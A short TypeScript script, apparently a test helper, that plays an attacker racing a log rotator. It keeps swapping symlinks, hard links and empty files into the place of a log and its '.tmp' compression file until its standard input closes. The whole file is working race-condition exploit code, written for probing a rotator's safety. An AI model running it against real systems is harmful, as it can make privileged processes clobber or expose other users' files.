/**
 * Somebody with write permission on the directory of a log: puts links and files in the place of the log and of what is
 * being compressed, as fast as it can, until its standard input ends.
 *
 * Arguments: the path of the log, a file of somebody else's, a path at which there is nothing.
 */
import { linkSync, readdirSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import process from "node:process";

const [log = "", victim = "", absent = ""] = process.argv.slice(2);
const directory = dirname(log);
const spare = join(directory, "spare");

const plants = [
  () => symlinkSync(victim, spare),
  () => linkSync(victim, spare),
  () => symlinkSync(absent, spare),
  () => writeFileSync(spare, ""),
];

/** The victim of the attack may have been faster. */
function attempt(step: () => void): void {
  try {
    step();
  } catch {
    // Tried again in a moment.
  }
}

let swaps = 0;
let isDone = false;
function swap(): void {
  for (let i = 0; i < 50; i++) {
    attempt(plants[swaps++ % plants.length]!);
    attempt(() => renameSync(spare, log));
    if (swaps % 3 === 0) attempt(() => unlinkSync(log));
  }
  attempt(() => {
    const name = readdirSync(directory).find((name) => name.startsWith(basename(log)) && name.endsWith(".tmp"));
    if (name === undefined) return;
    plants[swaps % 2]!();
    renameSync(spare, join(directory, name));
  });
  if (!isDone) setImmediate(swap);
}

process.stdin.on("data", () => {}).on("end", () => isDone = true);
process.stdout.write("ready\n");
swap();
